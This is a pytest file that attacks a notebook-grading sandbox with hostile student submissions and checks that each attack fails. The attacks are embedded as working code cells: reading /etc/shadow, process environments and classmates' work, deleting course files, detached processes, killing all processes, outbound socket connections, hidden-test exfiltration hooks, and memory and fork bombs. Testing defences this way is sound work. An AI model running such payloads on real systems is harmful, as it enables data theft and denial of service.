"""Hostile submissions against the sandbox, graded in one real `lrcourse grade` run next to honest students.

Each hostile student has a correct MyStepLR (so its score must stay full: nothing it does may change that)
and a cell after the answer that attacks: it reads every secret of the course and the grader it can name,
writes and deletes in every place that matters, starts processes meant to outlive it, connects to a server
on 127.0.0.1, signals every process it can, and bombs memory and the process table. The tests show each
attempt failed and changed nothing: secrets absent from every feedback file, the course folder, other
students' submissions and feedback and the gradebook's scores as they must be, no process left behind,
no byte received, and the limits (not luck) stopping the bombs.
"""

from __future__ import annotations

import hashlib
import os
import socket
import threading
import uuid
from pathlib import Path

import nbformat
import pytest

from support import hostile
from support.course import make_course, scores, submit
from support.gradedclass import lrcourse

CHAPTER = hostile.CHAPTER
MARK = uuid.uuid4().hex[:12]
SECRET = f"SOURCE-SECRET-{MARK}"
CLASSMATE = f"CLASSMATE-SECRET-{MARK}"
DETACHED = f"LRCOURSE-DETACHED-{MARK}"
LIMITS = "c.Sandbox.memory_mb = 1536\nc.Sandbox.processes = 48\nc.Sandbox.wall_seconds = 90\n"

READ_EVERYTHING = """
import glob, os
course = os.path.abspath("../../..")
targets = [f"{course}/source/SECRET.txt", f"{course}/gradebook.db", f"{course}/nbgrader_config.py",
           *glob.glob(f"{course}/submitted/*/*/*.ipynb"), *glob.glob(f"{course}/source/*/*.ipynb"),
           *glob.glob(os.path.expanduser("~root/.local/share/jupyter/runtime/*")), "/root/.bash_history",
           "/etc/shadow", *[f"/proc/{p}/cmdline" for p in os.listdir("/proc") if p.isdigit()],
           *[f"/proc/{p}/environ" for p in os.listdir("/proc") if p.isdigit()]]
for path in targets:
    try:
        with open(path, "rb") as handle:
            data = handle.read(4000)
        if b"SECRET" in data or b"BEGIN HIDDEN" in data or b"db_url" in data or b"sqlite" in data:
            print("LEAKED", path, data[:300])
    except Exception as error:
        print("denied", path, type(error).__name__)
for folder in [course, f"{course}/submitted", f"{course}/source", "/root", "/work"]:
    try:
        print("listed", folder, os.listdir(folder))
    except Exception as error:
        print("denied", folder, type(error).__name__)
"""
WRITE_EVERYWHERE = """
import glob, os, shutil
course = os.path.abspath("../../..")
def attempt(what, action):
    try:
        action()
        print("WROTE", what)
    except Exception as error:
        print("denied", what, type(error).__name__)
attempt("course root", lambda: open(f"{course}/HACKED", "w").write("x"))
attempt("source", lambda: shutil.rmtree(f"{course}/source"))
attempt("gradebook", lambda: open(f"{course}/gradebook.db", "wb").write(b"x"))
for path in glob.glob(f"{course}/submitted/*/*/*.ipynb") + [f"{course}/submitted/aa-honest-correct/02_ordered_schedules/ordered_schedules.ipynb"]:
    attempt(path, lambda path=path: open(path, "w").write("{}"))
attempt("feedback", lambda: (os.makedirs(f"{course}/feedback/aa-honest-correct/02_ordered_schedules", exist_ok=True),
                             open(f"{course}/feedback/aa-honest-correct/02_ordered_schedules/ordered_schedules.html", "w").write("INJECTED")))
attempt("autograded of a classmate", lambda: open(f"{course}/autograded/aa-honest-correct/02_ordered_schedules/x", "w").write("INJECTED"))
attempt("own folder (allowed: a scratch copy)", lambda: open("scratch-file.txt", "w").write("fine"))
"""
OUTLIVE = f"""
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(1)  # {DETACHED}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", "while true; do sleep 1; done # {DETACHED}"])
    os._exit(0)
"""
SIGNAL_EVERYTHING = """
import os, signal
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (os.getpid(), 1):
        try:
            os.kill(int(name), signal.SIGKILL)
        except Exception:
            pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except Exception as error:
    print("denied parent", type(error).__name__)
"""
MEMORY_BOMB = """
hoard = []
while True:
    hoard.append(bytearray(256 * 2**20))  # touched pages: 256 MB at a time, without end
"""
EXFILTRATE_HIDDEN_TESTS = """
def _show(info):
    print("NEXT CELL:", info.raw_cell)
get_ipython().events.register("pre_run_cell", _show)
"""
PRINT_HISTORY = "print('HISTORY:', In)\n"
PROCESS_BOMB = """
import os, time
children = 0
for _ in range(10_000):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    except OSError:
        break
print("children started:", children)
"""


def network_attack(port: int) -> str:
    return f"""
import socket
for host in ("127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8"):
    try:
        connection = socket.create_connection((host, {port}), timeout=2)
        connection.sendall(b"FROM THE SANDBOX")
        print("CONNECTED", host)
    except Exception as error:
        print("denied", host, type(error).__name__)
"""


def printed(course: Path, student: str) -> str:
    """Everything the student's notebook printed, as graded (outputs only, not the source)."""
    notebook = nbformat.read(next(course.glob(f"autograded/{student}/*/*.ipynb")), as_version=4)
    return "".join(output.get("text", "") for cell in notebook.cells for output in cell.get("outputs", []))


def folder_digest(folder: Path) -> dict:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def detached_processes() -> list[str]:
    found = []
    for name in os.listdir("/proc"):
        try:
            cmdline = Path(f"/proc/{name}/cmdline").read_bytes()
        except OSError:
            continue
        if DETACHED.encode() in cmdline:
            found.append(name)
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    received = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    port = server.getsockname()[1]
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
                received.append(connection.recv(100))
                connection.close()
            except OSError:
                continue

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    course = make_course(tmp_path_factory.mktemp("sandbox"), [CHAPTER])
    (course / "source" / "SECRET.txt").write_text(SECRET)
    with open(course / "nbgrader_config.py", "a") as config:
        config.write(LIMITS)
    attacks = {
        "read-everything": READ_EVERYTHING,
        "write-everywhere": WRITE_EVERYWHERE,
        "outlive": OUTLIVE,
        "signal-everything": SIGNAL_EVERYTHING,
        "network": network_attack(port),
        "memory-bomb": MEMORY_BOMB,
        "process-bomb": PROCESS_BOMB,
        "exfiltrate": EXFILTRATE_HIDDEN_TESTS,
    }
    honest = {"aa-honest-correct": hostile.CORRECT + f"\n# {CLASSMATE}\n", "zz-honest-correct": hostile.CORRECT}
    for student, answer in honest.items():
        submit(course, student, CHAPTER, hostile.answers(answer))
    for student, code in attacks.items():
        path = submit(course, student, CHAPTER, hostile.answers(hostile.CORRECT))
        notebook = nbformat.read(path, as_version=4)
        at = next(i for i, c in enumerate(notebook.cells) if c.get("id") == hostile.ANSWER_CELL) + 1
        notebook.cells.insert(at, nbformat.v4.new_code_cell(code))
        if student == "exfiltrate":
            notebook.cells.append(nbformat.v4.new_code_cell(PRINT_HISTORY))
        nbformat.write(notebook, path)
    before = {name: folder_digest(course / name) for name in ("source", "submitted")}
    run = lrcourse(course, "grade", CHAPTER, "--workers", "2", timeout=1800)
    stop.set()
    listener.join()
    server.close()
    return course, run, scores(course, CHAPTER), before, received, list(attacks), list(honest)


@pytest.mark.slow
def test_every_student_keeps_full_marks_and_the_run_finishes(attacked):
    course, run, graded, before, received, attackers, honest = attacked
    # the memory bomb's kernel dies: graded by the trusted verdicts, without feedback, so the run is not clean
    assert run.returncode == 1, run.stdout[-3000:] + run.stderr[-3000:]
    without = next(line for line in run.stdout.splitlines() if "graded without feedback" in line)
    assert "memory-bomb" in without.split(": ", 1)[1].split(", "), run.stdout[-3000:]
    marked = {path.parts[-3] for path in course.glob(f"autograded/*/{CHAPTER}/.lrcourse-graded.json")}
    assert "memory-bomb" not in marked and set(honest) <= marked  # not done: the next run grades it again
    for student in honest + attackers:
        assert student in graded, run.stdout
        assert all(score == maximum for score, maximum in graded[student].values()), (
            student,
            graded[student],
            run.stdout,
        )


@pytest.mark.slow
def test_nothing_secret_reaches_any_feedback_or_graded_notebook(attacked):
    course, run, graded, *_ = attacked
    files = [*course.glob("feedback/*/*/*.html"), *course.glob("autograded/*/*/*.ipynb")]
    died = {line.split()[0] for line in run.stdout.splitlines() if "no feedback" in line}  # kernel died
    assert "memory-bomb" in died and len(files) == 2 * (len(graded) - len(died)), (died, files)
    for path in files:
        text, student = path.read_text(errors="replace"), path.parts[-3]
        for secret in (SECRET, "sqlite:"):
            assert secret not in text, (path, secret)
        if path.suffix == ".ipynb":
            assert "LEAKED" not in printed(course, student), path
        if student != "aa-honest-correct":
            assert CLASSMATE not in text, path
        if path.suffix == ".html":
            assert "BEGIN HIDDEN TESTS" not in text, path
    read = printed(course, "read-everything")
    assert read.count("denied") >= 5 and "LEAKED" not in read, read[-3000:]


@pytest.mark.slow
def test_hidden_tests_never_reach_the_kernel_nor_any_feedback(attacked):
    """The kernel runs the test cells as released (the trusted verdicts run the hidden tests, outside), so even
    a submission that prints every cell it is given, and its whole input history, shows no hidden test."""
    from lrcourse.cells import visible_part
    from lrcourse.gradebook_db import gradebook

    course, run, *_ = attacked
    with gradebook(f"sqlite:///{course / 'gradebook.db'}") as book:
        notebook = book.find_assignment(CHAPTER).notebooks[0]
        visible = "\n".join(visible_part(cell.source) for cell in notebook.source_cells)
        hidden = {
            line.strip()
            for cell in notebook.source_cells
            for line in cell.source.splitlines()
            if "BEGIN HIDDEN TESTS" in cell.source and line.strip() not in visible and len(line.strip()) > 25
        }
    assert hidden
    stolen = printed(course, "exfiltrate")
    assert "NEXT CELL:" in stolen and "HISTORY:" in stolen  # the hooks ran...
    for path in [*course.glob("feedback/*/*/*.html"), *course.glob("autograded/*/*/*.ipynb")]:
        text = path.read_text()
        assert "BEGIN HIDDEN TESTS" not in text, path
        assert not [line for line in hidden if line in text], path  # ...and found none


@pytest.mark.slow
def test_nothing_was_written_or_deleted_outside_the_scratch_copy(attacked):
    course, run, graded, before, *_ = attacked
    assert {name: folder_digest(course / name) for name in ("source", "submitted")} == before
    assert not (course / "HACKED").exists()
    assert not list(course.rglob("scratch-file.txt")), "the scratch copy is not copied back"
    assert "INJECTED" not in next(course.glob("feedback/aa-honest-correct/*/*.html")).read_text()
    assert not (course / "autograded" / "aa-honest-correct" / CHAPTER / "x").exists()
    wrote = printed(course, "write-everywhere")
    assert "WROTE own folder" in wrote and wrote.count("WROTE") == 1, wrote[-2000:]


@pytest.mark.slow
def test_no_process_outlives_its_notebook(attacked):
    assert detached_processes() == []


@pytest.mark.slow
def test_no_connection_leaves_the_sandbox(attacked):
    course, run, graded, before, received, *_ = attacked
    assert received == []
    network = printed(course, "network")
    assert "CONNECTED" not in network and "denied 127.0.0.1" in network


@pytest.mark.slow
def test_the_bombs_are_stopped_by_the_limits(attacked):
    course, run, *_ = attacked
    lines = {line.split()[0]: line for line in run.stdout.splitlines()[2:] if line.strip()}
    assert "memory limit (1536 MB)" in lines["memory-bomb"], run.stdout
    assert "process limit (48 processes)" in lines["process-bomb"], run.stdout
